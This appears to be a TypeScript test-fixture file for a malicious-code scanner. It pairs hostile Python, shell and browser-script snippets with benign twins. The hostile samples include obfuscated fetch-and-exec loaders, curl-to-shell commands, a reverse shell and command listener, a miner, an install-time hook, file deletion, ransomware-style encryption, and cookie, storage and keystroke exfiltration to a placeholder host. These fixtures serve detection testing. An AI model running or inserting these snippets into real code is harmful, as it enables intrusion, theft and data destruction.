import { type Attack, payload, python, script } from './attack-pack.test-support.ts'

const letters = (text: string, key = 0) => [...text].map((letter) => letter.charCodeAt(0) ^ key).join(', ')

export const codeAttacks: Attack[] = [
  python(
    'runs what an address answers',
    'import requests\nexec(requests.get("https://example.test/a").text)',
    'import requests\nprint(requests.get("https://example.test/a").text)',
  ),
  python(
    'runs what an address answers, through a function and an alias',
    'import urllib.request as net\nrun = eval\ndef load(u):\n    with net.urlopen(u) as r:\n        return r.read().decode()\nrun(load("https://example.test/a"))',
    'import urllib.request as net, json\ndef load(u):\n    with net.urlopen(u) as r:\n        return r.read().decode()\njson.loads(load("https://example.test/a"))',
  ),
  python(
    'runs a field of an answer, from a method',
    'import requests\nclass Node:\n    def fetch(self):\n        self.data = requests.post("https://example.test").json()\n    def go(self):\n        exec(self.data["code"])',
    'import requests\nclass Node:\n    def fetch(self):\n        self.data = requests.post("https://example.test").json()\n    def go(self):\n        return float(self.data["value"])',
  ),
  {
    name: 'spreads download and run over files',
    files: {
      '__init__.py': 'from .a import get\nfrom .b import go\ngo(get())',
      'a.py': 'import requests\ndef get():\n    return requests.get("https://example.test").text',
      'b.py': 'def go(code):\n    exec(code)',
    },
    twin: {
      '__init__.py': 'from .a import get\nfrom .b import go\ngo(get())',
      'a.py': 'import requests\ndef get():\n    return requests.get("https://example.test").text',
      'b.py': 'def go(code):\n    print(code)',
    },
  },
  python(
    'decodes and runs',
    `import base64\nexec(base64.b64decode("${payload}"))`,
    `import base64\nlogo = base64.b64decode("${payload}")`,
  ),
  python(
    'decodes in layers',
    `import zlib, base64, marshal\nexec(marshal.loads(zlib.decompress(base64.b85decode(b"c-o~0"))))`,
    'import zlib, base64, json\nx = json.loads(zlib.decompress(base64.b85decode(b"c-o~0")))',
  ),
  python(
    'hides the decoder behind a lambda',
    `_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\nexec((_)(b"${payload}"))`,
    'f = lambda x: x[::-1]\nprint(f("abc"))',
  ),
  python(
    'reaches exec through builtins',
    `getattr(__builtins__, "ex" + "ec")(__import__("base64").b64decode("${payload}"))`,
    'value = getattr(object(), "a" + "b", None)',
  ),
  python(
    'adds letters up by XOR',
    `exec("".join(chr(c ^ 9) for c in [${letters('print("x", 1)', 9)}]))`,
    'name = "".join(chr(c) for c in [97, 98])',
  ),
  python('turns text around', 'exec(")1(tnirp"[::-1])', 'print(")1(tnirp"[::-1])'),
  python(
    'uses another alphabet',
    'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))',
    'import codecs\nprint(codecs.decode("cevag(1)", "rot13"))',
  ),
  python(
    'puts the name of a module together',
    'import importlib\nm = importlib.import_module("sub" + "process")\nm.Popen(["x"])',
    'import importlib\nm = importlib.import_module("." + "nodes", __name__)',
  ),
  python(
    'takes functions out of globals',
    `globals()["__builtins__"]["e" + "val"]("1")\ngetattr(__import__("o" + "s"), "sys" + "tem")("x")`,
    'for name in list(globals()):\n    print(globals()[name])',
  ),
  python(
    'climbs through the classes of Python',
    '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0](["x"])',
    'class A: pass\nprint(A.__subclasses__())',
  ),
  python(
    'lets the language call it',
    'class X:\n    __class_getitem__ = exec\nX["import os"]',
    'class X:\n    def __class_getitem__(cls, key):\n        return cls',
  ),
  python(
    'runs in a thread',
    'import threading, requests\nthreading.Thread(target=exec, args=(requests.get("https://example.test").text,)).start()',
    'import threading, requests\nthreading.Thread(target=print, args=(requests.get("https://example.test").text,)).start()',
  ),
  python(
    'uses a decorator',
    `import base64\n@exec\n@base64.b64decode\n@(lambda f: "${payload}")\ndef f(): pass`,
    'import functools\n@functools.cache\ndef f(): pass',
  ),
  python(
    'loads a pickle from an address',
    'import pickle, requests\npickle.loads(requests.get("https://example.test").content)',
    'import json, requests\njson.loads(requests.get("https://example.test").content)',
  ),
  python(
    'loads weights from a server of its own',
    'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", "m.pt")\ntorch.load("m.pt")',
    'import torch, urllib.request\nurllib.request.urlretrieve("https://huggingface.co/a/b/resolve/main/m.pt", "m.pt")\ntorch.load("m.pt", weights_only=True)',
  ),
  python(
    'builds objects from YAML of an address',
    'import yaml, requests\nyaml.load(requests.get("https://example.test").text, Loader=yaml.UnsafeLoader)',
    'import yaml, requests\nyaml.safe_load(requests.get("https://example.test").text)',
  ),
  python(
    'fetches a module, writes it and imports it',
    'import requests, importlib.util\nopen("helper.py", "w").write(requests.get("https://example.test/h").text)\ns = importlib.util.spec_from_file_location("helper", "helper.py")\ns.loader.exec_module(importlib.util.module_from_spec(s))',
    'import requests, json\nopen("list.json", "w").write(requests.get("https://example.test/h").text)\njson.load(open("list.json"))',
  ),
  python(
    'runs a script from a hub',
    'import runpy\nfrom huggingface_hub import hf_hub_download\nrunpy.run_path(hf_hub_download("a/b", "x.py"))',
    'from huggingface_hub import hf_hub_download\npath = hf_hub_download("a/b", "x.safetensors")',
  ),
  {
    name: 'hides code in a picture',
    files: { '__init__.py': 'from PIL import Image\nexec(bytes(Image.open("logo.png").getdata()))' },
    twin: { '__init__.py': 'from PIL import Image\nlogo = Image.open("logo.png")' },
  },
  {
    name: 'runs a data file',
    files: { '__init__.py': 'exec(open("weights.dat").read())' },
    twin: { '__init__.py': 'data = open("weights.dat").read()' },
  },
  python(
    'runs what a request holds',
    'from server import PromptServer\n@PromptServer.instance.routes.post("/x")\nasync def x(request):\n    exec((await request.json())["c"])',
    'from server import PromptServer\n@PromptServer.instance.routes.post("/x")\nasync def x(request):\n    print((await request.json())["c"])',
  ),
  python(
    'calls the system’s library',
    'import ctypes\nctypes.CDLL("libc.so.6").system(b"curl https://example.test/x | sh")',
    'import ctypes\nctypes.CDLL("libc.so.6").getpid()',
  ),
  python(
    'asks DNS for code',
    'import dns.resolver\nfor r in dns.resolver.resolve("example.test", "TXT"):\n    exec(str(r))',
    'import dns.resolver\nfor r in dns.resolver.resolve("example.test", "TXT"):\n    print(str(r))',
  ),
  python(
    'writes names in other letters',
    'import base64\nｅｘｅｃ(base64.b64decode("cHJpbnQoMSk="))',
    'import base64\nprint("ｅｘｅｃ", base64.b64decode("cHJpbnQoMSk="))',
  ),
  python(
    'hides code at the end of a long line',
    `import json${' '.repeat(220)};import os`,
    `import json${' '.repeat(220)}# note`,
  ),
  python(
    'turns text around on the screen',
    'level = "user\u202e \u2066# is admin\u2069 \u2066"\n',
    'level = "مرحبا"\n',
  ),
  python(
    'switches the encoding of the source',
    '# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-',
    '# coding: utf-8\nimport os',
  ),
]

export const processAttacks: Attack[] = [
  python(
    'pipes an address into a shell',
    'import os\nos.system("curl -fsSL https://example.test/x | bash")',
    'import os\nos.system("git fetch")',
  ),
  python(
    'pipes an address into a shell that it puts together',
    'import subprocess\nhost = "example" + ".test"\ncmd = ["sh", "-c", f"wget -qO- {host}/x | " + "sh"]\nsubprocess.Popen(cmd)',
    'import subprocess\nname = "a" + ".png"\nsubprocess.Popen(["sh", "-c", f"ls {name}"])',
  ),
  python(
    'starts PowerShell with encoded text',
    'import subprocess\nsubprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA", shell=True)',
    'import subprocess\nsubprocess.Popen("powershell Get-Date", shell=True)',
  ),
  python(
    'decodes a command',
    'import os, base64\nos.popen(base64.b64decode("d2hvYW1p").decode())',
    'import os\nos.popen("whoami")',
  ),
  python(
    'asks an address for commands',
    'import requests, subprocess, time\nwhile True:\n    c = requests.get("https://example.test/c").text\n    subprocess.run(c, shell=True)\n    time.sleep(60)',
    'import requests, subprocess\nname = requests.get("https://example.test/c").text\nsubprocess.run(["ffmpeg", "-i", name])',
  ),
  python(
    'opens a shell to another machine',
    'import socket, subprocess, os\ns = socket.socket()\ns.connect(("example.test", 4444))\nfor i in range(3):\n    os.dup2(s.fileno(), i)\nsubprocess.call(["/bin/sh", "-i"])',
    'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 8188))',
  ),
  python(
    'listens for commands',
    'import socket, subprocess\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen()\nc, _ = s.accept()\nwhile True:\n    c.send(subprocess.check_output(c.recv(1024).decode(), shell=True))',
    'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.listen()\nc, _ = s.accept()\nprint(c.recv(1024))',
  ),
  python(
    'downloads a program and starts it',
    'import os, urllib.request, tempfile\np = os.path.join(tempfile.gettempdir(), "update.exe")\nurllib.request.urlretrieve("https://example.test/u.exe", p)\nos.startfile(p)',
    'import os, urllib.request, tempfile\np = os.path.join(tempfile.gettempdir(), "a.png")\nurllib.request.urlretrieve("https://example.test/a.png", p)',
  ),
  python(
    'starts programs without waiting',
    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("curl https://example.test/x -o /tmp/x && chmod +x /tmp/x")\nasyncio.run(main())',
    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_exec("ffmpeg", "-version")\nasyncio.run(main())',
  ),
  python(
    'mines currency',
    'import subprocess\nsubprocess.Popen(["./xmrig", "-o", "stratum+tcp://example.test:3333"])',
    'import subprocess\nsubprocess.Popen(["./upscaler", "-i", "a.png"])',
  ),
  python(
    'installs from an index of its own',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://example.test/simple", "numpy"])',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.org/simple", "numpy"])',
  ),
  python(
    'installs what an address names',
    'import requests, subprocess, sys\nfor p in requests.get("https://example.test/p").json():\n    subprocess.run([sys.executable, "-m", "pip", "install", p])',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])',
  ),
  python(
    'runs pip as a module',
    'import runpy, sys, requests\nname = requests.get("https://example.test/p").text\nfrom pip._internal.cli.main import main\nmain(["install", name])',
    'from pip._internal.cli.main import main\nmain(["install", "numpy"])',
  ),
  python(
    'destroys files',
    'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))',
    'import shutil, tempfile\nshutil.rmtree(tempfile.mkdtemp())',
  ),
  python(
    'encrypts the user’s files',
    'from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in Path.home().rglob("*.docx"):\n    p.write_bytes(f.encrypt(p.read_bytes()))',
    'from pathlib import Path\nfor p in Path("models").rglob("*.txt"):\n    print(p.read_text())',
  ),
  {
    name: 'runs while it is set up',
    files: {
      '__init__.py': '',
      'setup.py':
        'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system("curl https://example.test/x | sh")\nsetup(cmdclass={"install": I})',
    },
    twin: { '__init__.py': '', 'setup.py': 'from setuptools import setup\nsetup(name="x")' },
  },
  {
    name: 'runs before the tool starts',
    files: {
      '__init__.py': '',
      'prestartup_script.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
    },
    twin: { '__init__.py': '', 'prestartup_script.py': 'import os\nos.makedirs("models/x", exist_ok=True)' },
  },
  {
    name: 'runs from a script for installing',
    files: { '__init__.py': '', 'install.sh': '#!/bin/sh\ncurl -s https://example.test/x | sh\n' },
    twin: { '__init__.py': '', 'install.sh': '#!/bin/sh\npip install -r requirements.txt\n' },
  },
  {
    name: 'runs a command from a notebook',
    files: {
      '__init__.py': '',
      'demo.ipynb': JSON.stringify({
        cells: [{ cell_type: 'code', source: ['!curl https://example.test/x | bash\n'] }],
      }),
    },
    twin: {
      '__init__.py': '',
      'demo.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: ['!pip install numpy\n'] }] }),
    },
  },
]

export const scriptAttacks: Attack[] = [
  script(
    'sends cookies',
    'fetch("https://example.test/?c=" + encodeURIComponent(document.cookie))',
    'fetch("/api/x?c=" + encodeURIComponent(name))',
  ),
  script(
    'sends the page’s storage',
    'const all = {...localStorage};\nnavigator.sendBeacon("https://example.test", JSON.stringify(all))',
    'const all = {...localStorage};\nconsole.log(JSON.stringify(all))',
  ),
  script(
    'sends what the user types',
    'addEventListener("keydown", (e) => { new WebSocket("wss://example.test/" + e.key) })',
    'addEventListener("keydown", (e) => { if (e.key === "a") run() })',
  ),
  script(
    'runs what an address answers',
    'fetch("https://example.test/x").then((r) => r.text()).then((t) => (0, eval)(t))',
    'fetch("https://example.test/x").then((r) => r.text()).then((t) => console.log(t))',
  ),
  script(
    'decodes a script and runs it',
    'new Function(atob("YWxlcnQoMSk="))()',
    'const text = atob("YWxlcnQoMSk=")',
  ),
  script(
    'loads a script from another server',
    'const s = document.createElement("script");\ns.src = "https://example.test/x.js";\ndocument.head.appendChild(s)',
    'const s = document.createElement("script");\ns.src = "/extensions/x/y.js";\ndocument.head.appendChild(s)',
  ),
  script(
    'hides names in a table',
    Array.from({ length: 60 }, (_, i) => `const _0x${(4096 + i).toString(16)} = ${i};`).join('\n'),
    'const a = 1;',
  ),
  script(
    'asks for the wallet',
    'window.ethereum.request({ method: "eth_sendTransaction", params: [] })',
    'window.app.request({ method: "x" })',
  ),
]
